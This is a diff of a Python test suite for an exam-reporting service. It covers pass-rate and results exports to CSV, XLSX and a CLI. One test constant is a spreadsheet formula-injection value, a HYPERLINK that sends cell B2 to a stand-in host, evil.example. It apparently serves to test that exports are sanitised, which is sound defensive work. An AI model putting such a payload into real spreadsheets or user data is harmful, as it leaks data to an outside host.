@@ -59,6 +59,7 @@ EVIL_NAME = '-1+HYPERLINK("https://evil.example/?"&B2,"点击")'
 FORMULA_NAMES = {11: "=1+1", 12: "+1", 13: "@SUM(A1)", 14: "\t=1+1", 16: "-A1",
                  17: "-5", 18: "-0.5"}  # the last two are plain numbers: they stay bare
 STATUS_ZH = {"not_started": "未参加", "in_progress": "进行中", "submitted": "已交卷"}
+TITLE_ROWS = 4  # XLSX: exam title, code and scope, generated at, an empty row; then the header
 
 
 def bank_json():
@@ -156,6 +157,7 @@ def group_figures(ps):
     passed = sum(1 for p in took if p["passed"])
     c = avg_centi(sum2, len(took))
     return {"assigned": len(ps), "took": len(took), "passed": passed, "sum2": sum2,
+            "not_taken": len(ps) - len(took), "failed": len(took) - passed,
             "participation_rate": len(took) / len(ps) if ps else None,
             "pass_rate": passed / len(took) if took else None,
             "avg_score": None if c is None else c / 100, "avg_centi": c}
@@ -389,7 +391,7 @@ class ReportsTest(L.TestCase):
         return r
 
     def assertFigures(self, got, want, what):
-        for k in ("assigned", "took", "passed"):
+        for k in ("assigned", "took", "passed", "not_taken", "failed"):
             self.assertEqual(got[k], want[k], "%s: %s" % (what, k))
         for k in ("participation_rate", "pass_rate", "avg_score"):
             if want[k] is None:
@@ -480,11 +482,14 @@ class ReportsTest(L.TestCase):
         self.assertEqual((odd["name"], odd["score"], odd["passed"]), (ODD_NAME, 38.5, True))
 
     def download(self, path, ctype, fname):
+        """fname: the ASCII fallback (filename=); filename* carries the Chinese name."""
         r = self.get(self.hr, path)
         self.assertEqual(r.headers["Content-Type"].split(";")[0].strip(), ctype)
         cd = r.headers["Content-Disposition"]
         self.assertTrue(cd.startswith('attachment; filename="%s"' % fname), cd)
-        self.assertIn("filename*=UTF-8''" + urllib.parse.quote(fname, safe=""), cd)
+        zh = {"pass-rates": "合格率统计", "results": "成绩明细", "items": "试题分析"}[fname.split("-" + EXAM)[0]]
+        self.assertIn("filename*=UTF-8''" + urllib.parse.quote(fname.replace(fname.split("-" + EXAM)[0], zh, 1),
+                                                                safe=""), cd)
         self.assertIsInstance(r.body, bytes)
         return r.body
 
@@ -503,10 +508,22 @@ class ReportsTest(L.TestCase):
             prev = ch
         return rows
 
+    def assertTitleRows(self, rows, scope):
+        """The XLSX title rows: the exam's title (bold), its code and the scope, the time."""
+        title = self.exams[EXAM].get("title") or EXAM
+        self.assertEqual(rows[0][0].value, title)
+        self.assertTrue(rows[0][0].font.b)
+        self.assertEqual(rows[1][0].value, "考试编号：%s；范围：%s" % (EXAM, scope))
+        when = rows[2][0].value
+        self.assertRegex(when, r"^生成时间：\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$")
+        t = datetime.datetime.strptime(when[len("生成时间："):], "%Y-%m-%d %H:%M:%S")
+        self.assertLess(abs((t - datetime.datetime.now()).total_seconds()), 120)
+        self.assertTrue(all(c.value is None for c in rows[3]))
+
     def expected_pass_rate_table(self, by, depth):
         rows, total = expected_pass_rates(self.people(), by, depth)
         head = (["类别", "类别名称"] if by == "category" else ["单位"]) + \
-            ["应考人数", "实考人数", "合格人数", "参考率", "合格率", "平均分"]
+            ["应考人数", "实考人数", "未参考", "合格人数", "不合格", "参考率", "合格率", "平均分"]
         out = [head]
         for g in rows + [dict(total, group="合计", group_name="")]:
             lead = [g["group"]] + ([g["group_name"]] if by == "category" else [])
@@ -525,7 +542,8 @@ class ReportsTest(L.TestCase):
                 self.assertEqual(len(got), len(want))
                 for row, (lead, g) in zip(got[1:], want[1:]):
                     c = g["avg_centi"]
-                    self.assertEqual(row, lead + [str(g["assigned"]), str(g["took"]), str(g["passed"]),
+                    self.assertEqual(row, lead + [str(g["assigned"]), str(g["took"]), str(g["not_taken"]),
+                                                  str(g["passed"]), str(g["failed"]),
                                                   fmt_rate(g["took"], g["assigned"]), fmt_rate(g["passed"], g["took"]),
                                                   "" if c is None else "%d.%02d" % (c // 100, c % 100)])
                 self.assertEqual(got[-1][0], "合计")
@@ -565,18 +583,20 @@ class ReportsTest(L.TestCase):
         ws = openpyxl.load_workbook(io.BytesIO(data)).active
         want = self.expected_pass_rate_table("category", None)
         rows = list(ws.iter_rows())
+        self.assertTitleRows(rows, "全部单位；按人员类别统计")
+        rows = rows[TITLE_ROWS:]
         self.assertEqual([c.value for c in rows[0]], want[0])
         self.assertTrue(all(c.font.b for c in rows[0]))
-        self.assertEqual(ws.freeze_panes, "A2")
+        self.assertEqual(ws.freeze_panes, "A%d" % (TITLE_ROWS + 2))
         self.assertEqual(len(rows), len(want))
         for row, (lead, g) in zip(rows[1:], want[1:]):
             vals = [c.value for c in row]
             self.assertEqual(vals[0], lead[0])
             self.assertEqual(vals[1] or "", lead[1])
-            for i, k in ((2, "assigned"), (3, "took"), (4, "passed")):
+            for i, k in ((2, "assigned"), (3, "took"), (4, "not_taken"), (5, "passed"), (6, "failed")):
                 self.assertIsInstance(vals[i], (int, float))
                 self.assertEqual(vals[i], g[k])
-            for i, k in ((5, "participation_rate"), (6, "pass_rate")):
+            for i, k in ((7, "participation_rate"), (8, "pass_rate")):
                 if g[k] is None:
                     self.assertIsNone(vals[i])
                 else:
@@ -584,10 +604,10 @@ class ReportsTest(L.TestCase):
                     self.assertAlmostEqual(vals[i], g[k], places=12)
                     self.assertEqual(row[i].number_format, "0.0%")
             if g["avg_score"] is None:
-                self.assertIsNone(vals[7])
+                self.assertIsNone(vals[9])
             else:
-                self.assertAlmostEqual(vals[7], g["avg_score"], places=9)
-        for col in "ABCDEFGH":
+                self.assertAlmostEqual(vals[9], g["avg_score"], places=9)
+        for col in "ABCDEFGHIJ":
             self.assertGreaterEqual(ws.column_dimensions[col].width, 8)
         self.assertGreaterEqual(ws.column_dimensions["B"].width, 12)  # 行政执法人员 fits
 
@@ -598,6 +618,8 @@ class ReportsTest(L.TestCase):
                              "results-%s.xlsx" % EXAM)
         ws = openpyxl.load_workbook(io.BytesIO(data)).active
         rows = list(ws.iter_rows(values_only=True))
+        self.assertTitleRows(list(ws.iter_rows()), "全部单位")
+        rows = rows[TITLE_ROWS:]
         ps = self.people()
         self.assertEqual(list(rows[0]), ["工号", "姓名", "单位", "类别", "状态", "成绩", "是否合格", "交卷时间"])
         self.assertEqual(len(rows), len(ps) + 1)
@@ -613,6 +635,74 @@ class ReportsTest(L.TestCase):
             else:
                 self.assertEqual(row[5:], (None, None, None))
 
+    def test_results_filters(self):
+        """The HR page's filters as query parameters: JSON, CSV and XLSX hold the same rows."""
+        ps = self.people()
+        unit = "甲区/司法局"  # 甲区/司法局 and its sections; never 甲区局
+        cases = [
+            ("status=submitted", lambda p: p["status"] == "submitted", "全部单位；状态：已交卷"),
+            ("status=not_started", lambda p: p["status"] == "not_started", "全部单位；状态：未参加"),
+            ("status=in_progress", lambda p: p["status"] == "in_progress", "全部单位；状态：进行中"),
+            ("passed=1", lambda p: p["status"] == "submitted" and p["passed"], "全部单位；是否合格：合格"),
+            ("passed=0", lambda p: p["status"] == "submitted" and not p["passed"], "全部单位；是否合格：不合格"),
+            ("org=" + urllib.parse.quote("甲区"), lambda p: p["org"] == "甲区" or p["org"].startswith("甲区/"),
+             "单位：甲区（含下级单位）"),
+            ("org=" + urllib.parse.quote(unit + "/") + "&status=submitted&passed=0",
+             lambda p: (p["org"] + "/").startswith(unit + "/") and p["status"] == "submitted" and not p["passed"],
+             "单位：%s（含下级单位）；状态：已交卷；是否合格：不合格" % unit),
+        ]
+        for q, keep, scope in cases:
+            with self.subTest(query=q):
+                want = [p["login"] for p in ps if keep(p)]
+                self.assertGreater(len(want), 0)
+                self.assertLess(len(want), len(ps))
+                r = self.get(self.hr, "/api/v1/reports/%s/results?%s" % (EXAM, q))
+                self.assertEqual([x["login"] for x in r.body["rows"]], want)
+                data = self.download("/api/v1/reports/%s/results?%s&format=csv" % (EXAM, q), "text/csv",
+                                     "results-%s.csv" % EXAM)
+                self.assertEqual([row[0] for row in self.read_csv(data)[1:]], want)
+                if openpyxl:
+                    data = self.download("/api/v1/reports/%s/results?%s&format=xlsx" % (EXAM, q),
+                                         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+                                         "results-%s.xlsx" % EXAM)
+                    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())
+                    self.assertTitleRows(rows, scope)
+                    self.assertEqual([row[0].value for row in rows[TITLE_ROWS + 1:]], want)
+        # pass rates take the unit filter: the rows and the total are over that unit only
+        r = self.get(self.hr, "/api/v1/reports/%s/pass-rates?by=org&org=%s" % (EXAM, urllib.parse.quote("甲区")))
+        sub = [p for p in ps if p["org"] == "甲区" or p["org"].startswith("甲区/")]
+        rows, total = expected_pass_rates(sub, "org")
+        self.assertEqual([g["group"] for g in r.body["rows"]], [g["group"] for g in rows])
+        self.assertFigures(r.body["total"], total, "org=甲区 total")
+        # the CLI takes the same filters and writes the same bytes
+        d = self.srv.dir
+        self.check(self.srv.admin("report", "results", EXAM, "--org", unit, "--status", "submitted", "--passed", "0",
+                                  "--format", "csv", "-o", os.path.join(d, "f.csv")))
+        with open(os.path.join(d, "f.csv"), "rb") as f:
+            cli = f.read()
+        api = self.get(self.hr, "/api/v1/reports/%s/results?org=%s&status=submitted&passed=0&format=csv"
+                       % (EXAM, urllib.parse.quote(unit))).body
+        self.assertEqual(cli, api)
+        # bad filters are a 400 with a Chinese message; the audit log names the filters
+        for q in ("status=done", "passed=yes", "org=" + urllib.parse.quote("/甲区"), "org=" + "x" * 600):
+            with self.subTest(bad=q):
+                r = self.hr.get("/api/v1/reports/%s/results?%s" % (EXAM, q))
+                self.assertStatus(r, 400, "bad_request")
+                self.assertRegex(r.body["error"]["message"], r"[\u4e00-\u9fff]")
+        out = self.check(self.srv.admin("audit"))
+        self.assertIn("results %s format=csv org=%s status=submitted passed=0" % (EXAM, unit), out)
+
+    def test_content_disposition_names(self):
+        """Chinese names in filename* (RFC 5987), an ASCII fallback in filename=."""
+        for path, ascii_name, zh in (
+                ("pass-rates?by=org&format=csv", "pass-rates-%s.csv" % EXAM, "合格率统计-%s.csv" % EXAM),
+                ("results?format=xlsx", "results-%s.xlsx" % EXAM, "成绩明细-%s.xlsx" % EXAM)):
+            with self.subTest(path=path):
+                cd = self.get(self.hr, "/api/v1/reports/%s/%s" % (EXAM, path)).headers["Content-Disposition"]
+                self.assertEqual(cd, "attachment; filename=\"%s\"; filename*=UTF-8''%s"
+                                 % (ascii_name, urllib.parse.quote(zh, safe="")))
+                self.assertTrue(all(ord(ch) < 128 for ch in cd))
+
     def test_cli_formats(self):
         d = self.srv.dir
         rc, out, err = self.srv.admin("report", "results", EXAM, "--format", "xlsx")
@@ -626,7 +716,7 @@ class ReportsTest(L.TestCase):
                                   "-o", os.path.join(d, "p.xlsx")))
         if openpyxl:
             ws = openpyxl.load_workbook(os.path.join(d, "p.xlsx")).active
-            self.assertEqual(ws.cell(1, 1).value, "类别")
+            self.assertEqual(ws.cell(TITLE_ROWS + 1, 1).value, "类别")
         rc, out, err = self.srv.admin("report", "pass-rates", EXAM)
         self.assertEqual(rc, 2)  # --by is required
         rc, out, err = self.srv.admin("report", "pass-rates", EXAM, "--by", "org", "--depth", "0")
